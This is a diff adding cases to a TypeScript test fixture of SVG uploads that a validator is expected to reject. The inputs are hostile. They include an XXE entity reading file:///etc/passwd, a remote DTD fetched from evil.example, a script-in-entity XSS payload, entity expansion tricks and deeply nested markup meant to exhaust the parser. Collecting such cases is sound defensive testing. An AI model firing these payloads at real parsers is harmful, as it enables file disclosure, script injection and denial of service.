@@ -26,6 +26,36 @@ export const REJECTED_SVGS: RejectedFile[] = [
     'drawing-entities',
   ],
   [
+    'an entity of markup',
+    () => svg('&a;', `<!DOCTYPE svg [<!ENTITY a "&#60;path d='M0 0h9v9z'/>">]>`),
+    400,
+    'drawing-entities',
+  ],
+  [
+    'an entity of markup in single quotes',
+    () => svg('&a;<path d="M0 0h9"/>', `<!DOCTYPE svg [<!ENTITY a '<path d="M0 0h9v9z"/>'>]>`),
+    400,
+    'drawing-entities',
+  ],
+  [
+    'a script in an entity',
+    () => svg('&a;<path d="M0 0h9"/>', '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>'),
+    400,
+    'drawing-entities',
+  ],
+  [
+    'an entity of a file',
+    () => svg('&a;<path d="M0 0h9"/>', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
+    400,
+    'drawing-malformed',
+  ],
+  [
+    'an SVG whose size is an attribute in its DTD',
+    () => `<!DOCTYPE svg [<!ATTLIST svg viewBox CDATA "0 0 9 9">]>${sized('')}`,
+    400,
+    'drawing-without-size',
+  ],
+  [
     'a parameter entity alone',
     () => svg('', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
     400,
@@ -61,6 +91,12 @@ export const REJECTED_SVGS: RejectedFile[] = [
   [
     'an SVG nested very deep, in letters of any alphabet',
     () => svg('<é>'.repeat(5000) + '</é>'.repeat(5000)),
+    413,
+    'drawing-too-complex',
+  ],
+  [
+    'an SVG of groups that are nested very deep',
+    () => svg(`${'<g>'.repeat(5000)}<path d="M0 0h9"/>${'</g>'.repeat(5000)}`),
     413,
     'drawing-too-complex',
   ],
